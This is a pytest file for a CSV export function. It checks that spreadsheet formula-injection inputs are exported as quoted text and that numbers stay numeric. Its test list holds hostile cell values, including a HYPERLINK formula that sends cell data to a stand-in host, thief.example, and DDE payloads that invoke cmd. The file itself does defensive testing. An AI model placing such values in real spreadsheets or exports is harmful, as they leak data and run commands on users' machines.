"""What people wrote is text in a spreadsheet, whatever it begins with, and numbers are numbers."""

import csv
import io
import re

import pytest

from aika.surfaces.api.spreadsheets import as_csv

HOSTILE = [
    '=HYPERLINK("http://thief.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",  # spreadsheets in Japanese take it for a formula
    "－1+cmd",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_hostile_name_is_text(text: str) -> None:
    [_, [cell, people]] = read(as_csv([{"team": text, "people": 5}]))

    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")
    assert people == "5"


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_hostile_column_is_text(text: str) -> None:
    [[column], _] = read(as_csv([{text: 1}]))

    assert column.startswith("'")


@pytest.mark.parametrize("text", ["who; =1+1", "who;\t=1+1", "who\n=1+1", "who\r\n@SUM(1)"], ids=repr)
def test_nor_is_what_follows_a_formula_where_semicolons_separate_cells(text: str) -> None:
    cells = re.split(r"[;\t\r\n]", as_csv([{"people": 5, "topic": text}]))

    assert not [cell for cell in cells if re.match(r"\s*[=+\-@]", cell)]


def test_numbers_stay_numbers_and_what_is_not_known_is_empty() -> None:
    assert as_csv([{"change": -5, "share": -0.25, "cost": None, "team": "Ops - Nord"}]) == (
        "change,share,cost,team\r\n-5,-0.25,,Ops - Nord\r\n"
    )
